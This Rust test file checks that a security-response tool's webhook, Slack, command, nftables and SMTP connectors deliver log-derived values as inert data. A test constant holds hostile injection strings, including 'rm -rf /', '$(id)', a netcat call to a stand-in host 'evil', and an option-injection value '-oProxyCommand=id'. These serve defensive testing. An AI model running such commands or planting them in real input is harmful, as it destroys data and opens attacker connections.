//! Connectors against real receivers on loopback: an HTTP listener checking Standard Webhooks
//! signatures, a Slack-style receiver, a real program's argument vector, nftables in a network
//! namespace the test creates, and an SMTP server (aiosmtpd, from PyPI). Field values full of shell
//! metacharacters, newlines and template syntax must arrive as inert data.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test helpers

use std::net::TcpListener;
use std::process::Command;
use std::sync::mpsc;
use std::time::Duration;

use secops_respond::connector::{deliver, verify, Operation, Prepare, Request};
use secops_respond::template::Context;
use secops_respond::{Config, Secrets, Target, TargetKind};
use secops_testkit::{http_receiver, under_ci, Received};
use serde_json::{json, Value};

/// A value an attacker could write into a log line.
const HOSTILE: &str =
    "x'; rm -rf / #\n$(id) `uname` | nc evil 4444 && {{ alert.secret }} <!channel> %s";

/// Answers each request with the next status, handing over what it got.
fn receiver(statuses: Vec<u16>) -> (String, mpsc::Receiver<Received>) {
    let (base, rx) = http_receiver(statuses);
    (format!("{base}/hook"), rx)
}

fn context() -> Context {
    let mut c = Context::new();
    c.add(
        "alert",
        json!({"rule.name": "SSH brute force", "source.ip": "185.220.101.47",
               "user.name": HOSTILE, "threshold.count": 14}),
    )
    .add("target", json!("185.220.101.47"))
    .add("run", json!({"id": 7, "alert": 42}));
    c
}

fn prepare(config: &Config, action: &str, secrets: &Secrets, operation: Operation) -> Request {
    let action = &config.actions[action];
    let connector = &config.connectors[&action.connector];
    let target = Target::parse(action.target, "185.220.101.47").unwrap();
    let context = context();
    connector
        .prepare(&Prepare {
            action,
            operation,
            target: &target,
            context: &context,
            delivery_id: "msg_2f1c0de",
            at_unix: std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_secs() as i64,
            secrets,
        })
        .unwrap()
}

#[test]
fn a_signed_webhook_arrives_with_a_valid_signature_and_its_values_inert() {
    let (url, rx) = receiver(vec![503, 200]);
    let config = Config::parse(
        "respond.toml",
        &format!(
            r#"
[[connector]]
name = "soc"
kind = "webhook"
url = "{url}"
signing_secret = "hook"

[[action]]
id = "block-source"
target = "ip"
connector = "soc"
backoff = "10ms"
params = {{ user = "{{{{ alert.user.name }}}}", count = "{{{{ alert.threshold.count }}}}", note = "by secops" }}
"#
        ),
    )
    .unwrap();
    let mut secrets = Secrets::new_for_tests();
    secrets.insert("hook", "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw");
    let request = prepare(&config, "block-source", &secrets, Operation::Do);
    let delivery = deliver(
        &config.connectors["soc"],
        &request,
        &secrets,
        &config.actions["block-source"],
    );
    assert!(delivery.ok, "{delivery:?}");
    // The 503 was tried again: two requests, one delivery id.
    assert_eq!(delivery.attempts, 2);
    let first = rx.recv_timeout(Duration::from_secs(5)).unwrap();
    let second = rx.recv_timeout(Duration::from_secs(5)).unwrap();
    assert_eq!(first.header("webhook-id"), second.header("webhook-id"));
    assert_eq!(second.header("webhook-id"), Some("msg_2f1c0de"));
    let timestamp: i64 = second.header("webhook-timestamp").unwrap().parse().unwrap();
    let signature = second.header("webhook-signature").unwrap();
    assert!(verify(
        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
        "msg_2f1c0de",
        timestamp,
        &second.body,
        signature,
        timestamp + 10,
    ));
    // A body changed on the way fails the check.
    assert!(!verify(
        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
        "msg_2f1c0de",
        timestamp,
        &second.body.replace("185.220.101.47", "185.220.101.48"),
        signature,
        timestamp,
    ));
    let body: Value = serde_json::from_str(&second.body).unwrap();
    assert_eq!(body["data"]["params"]["user"], HOSTILE);
    assert_eq!(body["data"]["params"]["count"], 14);
    assert_eq!(body["data"]["target"]["value"], "185.220.101.47");
    assert_eq!(body["data"]["run"]["alert"], 42);
}

#[test]
fn a_slack_message_defangs_and_escapes_values_and_its_url_stays_secret() {
    let (url, rx) = receiver(vec![200]);
    let config = Config::parse(
        "respond.toml",
        r#"
[[connector]]
name = "chat"
kind = "slack"
url_secret = "slack-url"

[[action]]
id = "tell-soc"
target = "ip"
connector = "chat"
params = { text = "Blocked {{ target }} (user {{ alert.user.name }}, rule <{{ alert.rule.name }}>)" }
"#,
    )
    .unwrap();
    let mut secrets = Secrets::new_for_tests();
    secrets.insert("slack-url", &url);
    let request = prepare(&config, "tell-soc", &secrets, Operation::Do);
    let shown = serde_json::to_string(&request).unwrap();
    assert!(!shown.contains(&url), "{shown}");
    assert!(shown.contains("<secret slack-url>"));
    let delivery = deliver(
        &config.connectors["chat"],
        &request,
        &secrets,
        &config.actions["tell-soc"],
    );
    assert!(delivery.ok, "{delivery:?}");
    let got = rx.recv_timeout(Duration::from_secs(5)).unwrap();
    let text = serde_json::from_str::<Value>(&got.body).unwrap()["text"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        text.starts_with("Blocked 185[.]220[.]101[.]47 (user "),
        "{text}"
    );
    assert!(text.contains("&lt;!channel&gt;"), "{text}");
    assert!(!text.contains("<!channel>"), "{text}");
    // The template's own text is not escaped.
    assert!(text.ends_with("rule <SSH brute force>)"), "{text}");
}

#[test]
fn a_program_gets_an_argument_vector_after_a_double_dash_and_no_options_from_logs() {
    let config = Config::parse(
        "respond.toml",
        r#"
[[connector]]
name = "ticket"
kind = "command"
program = "/usr/bin/python3"
args = ["-c", "import sys, json; print(json.dumps(sys.argv[1:]))"]

[[action]]
id = "open-ticket"
target = "user"
target_value = "{{ alert.user.name }}"
connector = "ticket"
params = { options = ["--queue=soc"], args = ["{{ alert.user.name }}", "{{ alert.source.ip }}"] }
"#,
    )
    .unwrap();
    let secrets = Secrets::new_for_tests();
    let action = &config.actions["open-ticket"];
    let request = prepare(&config, "open-ticket", &secrets, Operation::Do);
    let delivery = deliver(&config.connectors["ticket"], &request, &secrets, action);
    assert!(delivery.ok, "{delivery:?}");
    let argv: Vec<String> = serde_json::from_str(delivery.response.trim()).unwrap();
    assert_eq!(argv, ["--queue=soc", "--", HOSTILE, "185.220.101.47"]);

    // A value that starts with '-' is refused, not passed.
    let mut c = Context::new();
    c.add(
        "alert",
        json!({"user.name": "-oProxyCommand=id", "source.ip": "185.220.101.47"}),
    );
    let target = Target::parse(TargetKind::User, "bob").unwrap();
    let refused = config.connectors["ticket"].prepare(&Prepare {
        action,
        operation: Operation::Do,
        target: &target,
        context: &c,
        delivery_id: "d",
        at_unix: 0,
        secrets: &secrets,
    });
    assert!(
        matches!(&refused, Err(e) if e.to_string().contains("starts with '-'")),
        "{refused:?}"
    );

    // Options are constants: a template among them is refused when the file loads.
    let err = Config::parse(
        "bad.toml",
        r#"
[[connector]]
name = "ticket"
kind = "command"
program = "/usr/bin/true"
[[action]]
id = "x"
target = "user"
connector = "ticket"
params = { options = ["--user={{ alert.user.name }}"] }
"#,
    )
    .unwrap_err();
    assert!(err.to_string().contains("options are constants"), "{err}");
}

#[test]
fn nftables_blocks_and_unblocks_an_address_inside_a_network_namespace() {
    let Some(ns) = secops_testkit::Netns::new("respond") else {
        return;
    };
    let config = Config::parse(
        "respond.toml",
        &format!(
            r#"
[[connector]]
name = "edge"
kind = "nftables"
table = "inet secops"
set = "blocked"
netns = "{}"
create = true

[[action]]
id = "block"
target = "ip"
connector = "edge"
params = {{ operation = "add" }}
inverse = "unblock"
duration = "1h"

[[action]]
id = "unblock"
target = "ip"
connector = "edge"
params = {{ operation = "delete" }}
"#,
            ns.0
        ),
    )
    .unwrap();
    let secrets = Secrets::new_for_tests();
    let list = || {
        let out = Command::new("ip")
            .args([
                "netns", "exec", &ns.0, "nft", "list", "set", "inet", "secops", "blocked",
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let add = prepare(&config, "block", &secrets, Operation::Do);
    let d = deliver(
        &config.connectors["edge"],
        &add,
        &secrets,
        &config.actions["block"],
    );
    assert!(d.ok, "{d:?}");
    assert!(list().contains("185.220.101.47"), "{}", list());
    let del = prepare(&config, "unblock", &secrets, Operation::Undo);
    let d = deliver(
        &config.connectors["edge"],
        &del,
        &secrets,
        &config.actions["unblock"],
    );
    assert!(d.ok, "{d:?}");
    assert!(!list().contains("185.220.101.47"), "{}", list());
    // An nftables action acts on addresses only.
    let err = Config::parse(
        "bad.toml",
        "[[connector]]\nname = \"edge\"\nkind = \"nftables\"\n[[action]]\nid = \"x\"\ntarget = \"user\"\nconnector = \"edge\"\nparams = { operation = \"add\" }\n",
    )
    .unwrap_err();
    assert!(err.to_string().contains("blocks addresses"), "{err}");
}

/// aiosmtpd's Mailbox handler writing to a maildir, on a free port.
struct Smtpd {
    child: std::process::Child,
    port: u16,
}

impl Drop for Smtpd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn smtpd(maildir: &std::path::Path) -> Option<Smtpd> {
    smtpd_with(maildir, &[])
}

/// The same, with aiosmtpd's TLS options (`--tlscert`/`--tlskey` for STARTTLS, required unless
/// `--no-requiretls`; `--smtpscert`/`--smtpskey` for TLS from the start).
fn smtpd_with(maildir: &std::path::Path, tls: &[&std::ffi::OsStr]) -> Option<Smtpd> {
    let ok = Command::new("python3")
        .args(["-c", "import aiosmtpd"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        assert!(!under_ci(), "aiosmtpd (PyPI) is needed under CI");
        return None;
    }
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let child = Command::new("python3")
        .args(["-m", "aiosmtpd", "-n", "-l", &format!("127.0.0.1:{port}")])
        .args(tls)
        .args(["-c", "aiosmtpd.handlers.Mailbox"])
        .arg(maildir)
        .spawn()
        .unwrap();
    // Dropped (killed and waited for) however the wait below ends.
    let server = Smtpd { child, port };
    for _ in 0..200 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            return Some(server);
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    panic!("aiosmtpd did not listen on {port}");
}

#[test]
fn an_email_arrives_with_one_subject_line_and_the_values_as_written() {
    let dir = tempfile::tempdir().unwrap();
    let maildir = dir.path().join("mail");
    let Some(server) = smtpd(&maildir) else {
        eprintln!("skipped: aiosmtpd missing");
        return;
    };
    let config = Config::parse(
        "respond.toml",
        &format!(
            r#"
[[connector]]
name = "mail"
kind = "smtp"
server = "127.0.0.1:{}"
from = "secops@soc.example"
to = ["oncall@soc.example"]
tls = "none"

[[action]]
id = "page"
target = "ip"
connector = "mail"
params = {{ subject = "Blocked {{{{ target }}}} for {{{{ alert.user.name }}}}", body = "User: {{{{ alert.user.name }}}}\n.\nend" }}
"#,
            server.port
        ),
    )
    .unwrap();
    let secrets = Secrets::new_for_tests();
    let request = prepare(&config, "page", &secrets, Operation::Do);
    let d = deliver(
        &config.connectors["mail"],
        &request,
        &secrets,
        &config.actions["page"],
    );
    assert!(d.ok, "{d:?}");
    let new = maildir.join("new");
    let mut found = None;
    for _ in 0..200 {
        if let Some(entry) = std::fs::read_dir(&new).ok().and_then(|mut r| r.next()) {
            found = Some(std::fs::read_to_string(entry.unwrap().path()).unwrap());
            break;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    let message = found.expect("a message in the maildir");
    let headers: Vec<&str> = message.split("\n\n").next().unwrap().lines().collect();
    let subject: Vec<&&str> = headers
        .iter()
        .filter(|h| h.starts_with("Subject:"))
        .collect();
    assert_eq!(subject.len(), 1, "{message}");
    // The newline in the value became a space: no header was added.
    assert!(
        subject[0].contains("x'; rm -rf / # $(id)"),
        "{}",
        subject[0]
    );
    assert!(!headers.iter().any(|h| h.starts_with("$(id)")), "{message}");
    let Request::Mail { body, .. } = &request else {
        panic!()
    };
    assert_eq!(body, &format!("User: {HOSTILE}\n.\nend"));
    let encoded: String = message
        .split("\n\n")
        .nth(1)
        .unwrap()
        .lines()
        .collect::<Vec<_>>()
        .concat();
    use base64::Engine;
    let decoded = base64::engine::general_purpose::STANDARD
        .decode(encoded.trim())
        .unwrap();
    assert_eq!(String::from_utf8(decoded).unwrap(), *body);
}

/// The messages a maildir holds, after waiting a little for the first.
fn messages(maildir: &std::path::Path, at_least: usize) -> usize {
    let new = maildir.join("new");
    for _ in 0..200 {
        let n = std::fs::read_dir(&new).map_or(0, |r| r.count());
        if n >= at_least {
            return n;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    std::fs::read_dir(&new).map_or(0, |r| r.count())
}

/// One connector `mail` on `port` with the given extra keys, and an action `page` through it.
fn mail_config(port: u16, keys: &str) -> Config {
    Config::parse(
        "respond.toml",
        &format!(
            "[[connector]]\nname = \"mail\"\nkind = \"smtp\"\nserver = \"127.0.0.1:{port}\"\n\
             from = \"secops@soc.example\"\nto = [\"oncall@soc.example\"]\n{keys}\n\n\
             [[action]]\nid = \"page\"\ntarget = \"ip\"\nconnector = \"mail\"\n\
             params = {{ subject = \"Blocked {{{{ target }}}}\" }}\n"
        ),
    )
    .unwrap()
}

fn send_mail(config: &Config) -> secops_respond::connector::Delivery {
    let secrets = Secrets::new_for_tests();
    let request = prepare(config, "page", &secrets, Operation::Do);
    deliver(
        &config.connectors["mail"],
        &request,
        &secrets,
        &config.actions["page"],
    )
}

/// STARTTLS by default: a relay that requires it gets the message inside TLS when its certificate
/// is trusted (`ca_file`); with the public roots only, the certificate is refused and nothing is
/// sent (no retry); a relay that does not offer STARTTLS is never written to in the clear; TLS from
/// the first byte (port 465 style) works the same.
#[test]
fn an_email_goes_inside_tls_or_not_at_all() {
    let dir = tempfile::tempdir().unwrap();
    let (cert, key) = secops_testkit::tls_certificate(dir.path());
    let maildir = dir.path().join("mail");
    let starttls = [
        std::ffi::OsStr::new("--tlscert"),
        cert.as_os_str(),
        std::ffi::OsStr::new("--tlskey"),
        key.as_os_str(),
    ];
    let Some(server) = smtpd_with(&maildir, &starttls) else {
        eprintln!("skipped: aiosmtpd missing");
        return;
    };
    let ca = format!("ca_file = {:?}", cert.display().to_string());

    let trusted = mail_config(server.port, &ca);
    let request = prepare(&trusted, "page", &Secrets::new_for_tests(), Operation::Do);
    let recorded = serde_json::to_value(&request).unwrap();
    assert_eq!(recorded["tls"], "starttls", "{recorded}");
    let d = send_mail(&trusted);
    assert!(d.ok, "{d:?}");
    assert_eq!(messages(&maildir, 1), 1);

    // The relay refuses mail before STARTTLS: what went through above went inside TLS.
    let clear = send_mail(&mail_config(server.port, "tls = \"none\""));
    assert!(!clear.ok && clear.status.contains("STARTTLS"), "{clear:?}");

    // Its certificate is no public CA's: refused, once, and nothing sent.
    let untrusted = send_mail(&mail_config(server.port, ""));
    assert!(!untrusted.ok, "{untrusted:?}");
    assert!(
        untrusted.status.to_lowercase().contains("certificate"),
        "{untrusted:?}"
    );
    assert_eq!(
        untrusted.attempts, 1,
        "a refused certificate is not retried"
    );
    assert_eq!(messages(&maildir, 1), 1);
    drop(server);

    // A relay without STARTTLS: asked for it, nothing is sent in the clear.
    let plain_dir = dir.path().join("plain");
    let plain = smtpd(&plain_dir).unwrap();
    let refused = send_mail(&mail_config(plain.port, &ca));
    assert!(
        !refused.ok && refused.status.contains("does not offer STARTTLS"),
        "{refused:?}"
    );
    assert_eq!(messages(&plain_dir, 0), 0);
    drop(plain);

    // TLS from the first byte.
    let smtps_dir = dir.path().join("smtps");
    let smtps = [
        std::ffi::OsStr::new("--smtpscert"),
        cert.as_os_str(),
        std::ffi::OsStr::new("--smtpskey"),
        key.as_os_str(),
    ];
    let implicit = smtpd_with(&smtps_dir, &smtps).unwrap();
    let d = send_mail(&mail_config(implicit.port, &format!("tls = \"tls\"\n{ca}")));
    assert!(d.ok, "{d:?}");
    assert_eq!(messages(&smtps_dir, 1), 1);
}

/// A password is never configured to cross a network in the clear.
#[test]
fn a_password_without_tls_is_refused_beyond_loopback() {
    let config = |server: &str| {
        Config::parse(
            "respond.toml",
            &format!(
                "[[connector]]\nname = \"mail\"\nkind = \"smtp\"\nserver = \"{server}\"\n\
                 from = \"secops@soc.example\"\nto = [\"oncall@soc.example\"]\ntls = \"none\"\n\
                 username = \"secops\"\npassword_secret = \"relay-password\"\n"
            ),
        )
    };
    let refused = config("mail.soc.example:25").unwrap_err().to_string();
    assert!(refused.contains("in the clear"), "{refused}");
    assert!(config("127.0.0.1:25").is_ok());
    assert!(config("[::1]:25").is_ok());
    let bad = Config::parse(
        "respond.toml",
        "[[connector]]\nname = \"mail\"\nkind = \"smtp\"\nserver = \"127.0.0.1:25\"\n\
         from = \"secops@soc.example\"\nto = [\"oncall@soc.example\"]\ntls = \"ssl\"\n",
    )
    .unwrap_err()
    .to_string();
    assert!(bad.contains("one of starttls, tls, none"), "{bad}");
}
